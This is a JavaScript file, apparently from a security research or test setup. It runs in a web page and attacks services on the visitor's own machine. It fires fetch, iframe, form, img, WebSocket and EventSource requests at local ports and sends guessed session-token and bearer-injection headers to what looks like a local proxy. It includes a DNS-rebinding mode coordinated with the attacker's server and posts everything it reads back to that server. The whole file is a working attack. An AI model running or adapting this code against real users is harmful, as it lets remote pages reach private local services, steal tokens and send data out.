// What a web page can send to a port of the machine that it is looked at on, and what it can read of the answer.
"use strict";

const found = [];
const note = (attempt, read) => found.push({ attempt, read });
const pause = (ms) => new Promise((resume) => setTimeout(resume, ms));
const limited = (promise) => Promise.race([promise, pause(4000).then(() => Promise.reject(new Error("nothing came")))]);

async function fetched(attempt, url, options) {
  try {
    const answer = await limited(fetch(url, options));
    note(attempt, answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`);
  } catch {
    note(attempt, null);
  }
}

// An element that loads something: no answer can be read, but a request leaves.
function element(attempt, kind, attributes, parent = document.body) {
  return limited(
    new Promise((resume) => {
      const made = document.createElement(kind);
      made.onload = made.onerror = resume;
      Object.assign(made, attributes);
      parent.append(made);
    }),
  ).then(() => note(attempt, null), () => note(attempt, null));
}

function framed(attempt, url, attributes = {}) {
  const frame = document.createElement("iframe");
  Object.assign(frame, attributes);
  return limited(new Promise((resume) => ((frame.onload = resume), (frame.src = url), document.body.append(frame)))).then(
    () => {
      let read = null;
      try {
        read = frame.contentDocument?.body?.innerText ?? null;
      } catch {}
      note(attempt, read);
    },
    () => note(attempt, null),
  );
}

async function posted(attempt, url, sandbox) {
  const frame = document.createElement("iframe");
  frame.name = `target${Math.random()}`;
  if (sandbox) frame.sandbox = "allow-forms allow-scripts";
  const form = `<form method=post enctype=text/plain action="${url}"><input name=a value=b></form><script>document.forms[0].submit()</` + "script>";
  frame.srcdoc = form;
  document.body.append(frame);
  await pause(600);
  note(attempt, null);
}

function listened(attempt, make) {
  return new Promise((resume) => {
    let read = null;
    let source;
    const end = () => {
      note(attempt, read);
      source?.close();
      resume();
    };
    try {
      source = make();
    } catch {
      return end();
    }
    source.onmessage = (event) => (read = event.data);
    source.onopen = () => ((read = read ?? "open"), setTimeout(end, 300));
    source.onerror = end;
    setTimeout(end, 3000);
  });
}

async function attack(origin, plan) {
  const json = { "content-type": "application/json" };
  const token = { "x-as-session-token": plan.token };
  const explicit = { ...token, "x-as-target-url": plan.target, "x-as-inject-bearer": "TOKEN" };
  for (const path of plan.paths) {
    const url = origin + path;
    const shown = url.replaceAll(plan.token, "~");
    await Promise.all([
      fetched(`fetch ${shown}`, url),
      fetched(`fetch with the token ${shown}`, url, { headers: token }),
      fetched(`fetch, explicit ${shown}`, url, { headers: explicit, method: "POST", body: "x" }),
      fetched(`fetch, no-cors ${shown}`, url, { mode: "no-cors" }),
      fetched(`fetch, no-cors POST ${shown}`, url, { mode: "no-cors", method: "POST", body: "x" }),
      fetched(`fetch, JSON ${shown}`, url, { method: "POST", headers: json, body: "{}" }),
      fetched(`fetch, with credentials ${shown}`, url, { credentials: "include" }),
      fetched(`fetch, no referrer ${shown}`, url, { mode: "no-cors", referrerPolicy: "no-referrer" }),
      element(`img ${shown}`, "img", { src: url }),
      element(`script ${shown}`, "script", { src: url }),
      element(`link ${shown}`, "link", { rel: "stylesheet", href: url }, document.head),
      element(`object ${shown}`, "object", { data: url }),
      element(`video ${shown}`, "video", { src: url }),
      framed(`iframe ${shown}`, url),
      framed(`sandboxed iframe ${shown}`, url, { sandbox: "allow-scripts" }),
      posted(`form ${shown}`, url, false),
      posted(`sandboxed form ${shown}`, url, true),
      listened(`EventSource ${shown}`, () => new EventSource(url)),
      listened(`WebSocket ${shown}`, () => new WebSocket(url.replace("http", "ws"))),
    ]);
    navigator.sendBeacon(url, "x");
  }
  for (const path of plan.sockets) {
    await listened(`WebSocket ${path.replaceAll(plan.token, "~")}`, () => new WebSocket(origin.replace("http", "ws") + path));
  }
}

(async () => {
  const plan = await (await fetch("/plan")).json();
  const home = plan.report;
  // The page is there; whoever set the trap now takes its own server away, and the name leads to the victim's.
  if (plan.rebound) {
    await fetch(`${home}/ready`, { method: "POST", mode: "no-cors" });
    for (;;) {
      if ((await (await fetch(`${home}/go`)).text()) === "go") break;
      await pause(50);
    }
  }
  for (const origin of plan.rebound ? [location.origin] : plan.origins) await attack(origin, plan);
  await fetch(`${home}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
  if (plan.leave) location.href = plan.leave;
})();
